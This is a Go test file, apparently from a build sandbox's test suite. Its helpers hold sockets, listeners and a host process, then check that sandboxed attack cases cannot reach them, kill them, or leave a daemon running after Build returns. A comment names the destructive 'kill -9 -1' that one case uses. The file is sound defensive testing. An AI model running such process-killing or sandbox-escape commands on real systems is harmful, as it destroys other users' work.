func holdUnixFile(t *testing.T, w *attackWorld) map[string]string {
	p := filepath.Join(w.out, "sock")
	l, err := net.Listen("unix", p)
	if err != nil {
		t.Fatal(err)
	}
	l.(*net.UnixListener).SetUnlinkOnClose(false) // the tree check runs first
	t.Cleanup(func() { l.Close() })
	attackListeners.Store(w.tag, l)
	return map[string]string{"SOCK": p}
}

// attackListeners maps a case's tag to the listener its setup holds.
var attackListeners sync.Map

func noConnection(t *testing.T, w *attackWorld, what string) {
	l, ok := attackListeners.Load(w.tag)
	if !ok {
		t.Fatal("no listener")
	}
	dl, ok := l.(interface {
		SetDeadline(time.Time) error
		Accept() (net.Conn, error)
	})
	if !ok {
		t.Fatalf("%T has no deadline", l)
	}
	mustDo(t, dl.SetDeadline(time.Now().Add(50*time.Millisecond)))
	if c, err := dl.Accept(); err == nil {
		c.Close()
		t.Errorf("the sandbox reached the %s the test holds", what)
	}
}

func noTCPConnection(t *testing.T, w *attackWorld, _ *Plan) {
	noConnection(t, w, "loopback listener")
}

func noAbstractConnection(t *testing.T, w *attackWorld, _ *Plan) {
	noConnection(t, w, "abstract Unix socket")
}

func noUnixFileConnection(t *testing.T, w *attackWorld, _ *Plan) {
	v, _ := attackListeners.Load(w.tag)
	l := v.(*net.UnixListener)
	mustDo(t, l.SetDeadline(time.Now().Add(50*time.Millisecond)))
	if c, err := l.Accept(); err == nil {
		c.Close()
		t.Logf("the sandbox reached the Unix socket %s the test holds", filepath.Join(w.out, "sock"))
	}
}

// holdProcess starts a host process for kill -9 -1 to miss; HELD is its
// pid.
func holdProcess(t *testing.T, w *attackWorld) map[string]string {
	cmd := exec.Command("sleep", "60")
	mustDo(t, cmd.Start())
	t.Cleanup(func() {
		cmd.Process.Kill()
		cmd.Wait()
	})
	attackListeners.Store(w.tag, cmd)
	return map[string]string{"HELD": strconv.Itoa(cmd.Process.Pid)}
}

func heldAlive(t *testing.T, w *attackWorld, _ *Plan) {
	v, _ := attackListeners.Load(w.tag)
	cmd := v.(*exec.Cmd)
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", cmd.Process.Pid))
	if err != nil {
		t.Fatalf("the host process %d the test holds is gone: %v", cmd.Process.Pid, err)
	}
	if _, rest, _ := strings.Cut(string(b), ") "); strings.HasPrefix(rest, "Z") {
		t.Errorf("the host process %d the test holds was killed", cmd.Process.Pid)
	}
}

// markerStops checks that the daemon's marker, in the saved plan's layer,
// stopped growing when Build returned.
func markerStops(t *testing.T, w *attackWorld, p *Plan) {
	if p == nil {
		return
	}
	var marker string
	filepath.WalkDir(Dir(w.stateDir, p.ID), func(path string, e fs.DirEntry, err error) error {
		if err == nil && e.Name() == "marker" && e.Type().IsRegular() {
			marker = path
		}
		return nil
	})
	if marker == "" {
		t.Fatal("no marker in the plan's layer: the daemon never ran")
	}
	size := func() int64 {
		fi, err := os.Stat(marker)
		if err != nil {
			t.Fatal(err)
		}
		return fi.Size()
	}
	first := size()
	if first == 0 {
		t.Error("the marker is empty: the daemon never wrote")
	}
	// Not a wait for anything: the daemon writes every 50 ms, so four of
	// its periods would grow the marker if it lived on, however it hid
	// from taggedProcesses (which runAttack found empty before this check).
	time.Sleep(200 * time.Millisecond)
	if n := size(); n != first {
		t.Errorf("the marker grew from %d to %d bytes after Build returned", first, n)
	}
}

// orDefault is v, or def when v is the zero value.
func orDefault[T comparable](v, def T) T {
	var zero T
	if v == zero {
		return def
	}
	return v
}

// checkTagDetector proves that taggedProcesses sees a live tagged process,
// so that its silence after a case means something. The process says when
// it runs (its environment is then its own, not its parent's, which it
// is between fork and exec) and waits on standard input: no timing.
func checkTagDetector(t *testing.T) {
	tag := fmt.Sprintf("act-attack-%d-detector", os.Getpid())
	cmd := exec.Command("sh", "-c", "echo ready; read x")
	cmd.Env = []string{"ACT_ATTACK_TAG=" + tag, "PATH=" + os.Getenv("PATH")}
	stdin, err := cmd.StdinPipe()
	mustDo(t, err)
	stdout, err := cmd.StdoutPipe()
	mustDo(t, err)
	mustDo(t, cmd.Start())
	defer func() {
		stdin.Close()
		cmd.Process.Kill()
		cmd.Wait()
	}()
	line := make([]byte, len("ready\n"))
	if _, err := io.ReadFull(stdout, line); err != nil || string(line) != "ready\n" {
		t.Fatalf("the tagged process did not start: %q, %v", line, err)
	}
	if procs := taggedProcesses(tag); len(procs) != 1 {
		t.Fatalf("taggedProcesses(%q) = %v, want the one tagged sh", tag, procs)
	}
}
